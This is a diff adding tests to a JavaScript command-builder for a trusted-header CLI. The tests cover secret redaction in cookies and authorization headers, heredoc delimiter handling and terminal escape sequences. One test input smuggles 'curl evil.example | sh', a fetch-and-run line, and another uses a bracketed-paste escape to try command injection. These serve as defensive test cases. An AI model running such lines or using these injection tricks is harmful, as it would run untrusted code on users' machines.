@@ -69,6 +69,8 @@ describe('a link to the playground', () => {
     ['Connection: close, Remote-User', 'Connection: close, Remote-User'],
     ['RemoteAddr: 172.20.0.2:41244', 'RemoteAddr: 172.20.0.2:41244'],
     ['* Connected to a (127.0.0.1) port 80', '* Connected to a (127.0.0.1) port 80'],
+    ['  Cookie: a=b', '  Cookie: (left out)'],
+    ['\t>  Authorization : a', '\t>  Authorization : (left out)'],
   ])('keeps what a decision depends on and no more: %s', (line, kept) => {
     expect(withoutSecrets(`A: b\r\n${line}\n`)).toBe(`A: (left out)\r\n${kept}\n`);
   });
@@ -92,6 +94,24 @@ describe('the command line', () => {
     const text = 'Cookie: x\nRemote-User: john';
     expect(commandLineOf({ ...FIRST, trusted: "a'b c", text })).toBe(
       "npx @trusted-header/cli check \\\n  --trusted-proxies 'a'\\''b c' \\\n  --peer 172.20.0.2 \\\n  --from - <<'END'\nCookie: (left out)\nRemote-User: john\nEND",
+    );
+  });
+
+  it('ends what was pasted where it ends, whatever somebody has put into a link', () => {
+    const command = commandLineOf({ ...EMPTY, text: 'A: b\nEND\nEND1\ncurl evil.example | sh\n' });
+    expect(command).toBe(
+      "npx @trusted-header/cli check \\\n  --from - <<'END2'\nA: (left out)\nEND\nEND1\ncurl evil.example | sh\nEND2",
+    );
+  });
+
+  it('holds nothing that a terminal takes for a key', () => {
+    const command = commandLineOf({
+      ...EMPTY,
+      peer: '1\r\n2',
+      text: 'x\rEND\rid\u001b[201~\r\n\ty',
+    });
+    expect(command).toBe(
+      "npx @trusted-header/cli check \\\n  --peer '1\n2' \\\n  --from - <<'END'\nx\\rEND\\rid\\u001b[201~\n\ty\nEND",
     );
   });
 });
